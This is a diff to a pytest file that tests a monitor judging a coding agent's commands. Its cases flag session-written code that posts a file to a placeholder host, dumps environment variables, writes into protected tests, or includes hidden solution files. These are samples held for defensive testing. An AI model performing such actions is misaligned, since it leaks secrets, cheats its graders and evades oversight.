@@ -143,3 +143,20 @@ def test_a_file_of_commands_that_names_a_hidden_path_is_blocked_when_it_is_writt
     content = "x:\n    read /solution/solve.sh\n"
     assert judge("write", {"path": path, "content": content}).rule == "hidden-read"
     assert judge("write", {"path": path, "content": "# see /solution/solve.sh\n"}).decision is Decision.ALLOW
+
+
+@pytest.mark.parametrize(
+    ("path", "code", "command", "rule"),
+    [
+        ("cmd/x/main.go", 'http.Post("https://a.example/v1", "text/plain", f)', "go run ./cmd/x", "unknown-host"),
+        ("cmd/x/main.go", "strings.Join(os.Environ(), sep)", "go run ./cmd/x", "token-lookup"),
+        ("src/main.rs", 'fs::write("tests/a.rs", "x")', "cargo run --release", "test-edit"),
+        ("probe.c", '#include "/solution/a.c"', "gcc -E probe.c", "hidden-read"),
+    ],
+)
+def test_a_source_of_the_session_is_judged_when_it_is_run_at_once(
+    path: str, code: str, command: str, rule: str, judge: Judge
+) -> None:
+    earlier = [("write", {"path": path, "content": code}, "")]
+    assert judge("bash", {"command": command}, {"protected": ["tests/**"]}, earlier=earlier).rule == rule
+    assert judge("bash", {"command": "go vet ./..."}, {"protected": ["tests/**"]}, earlier=earlier).rule == ""
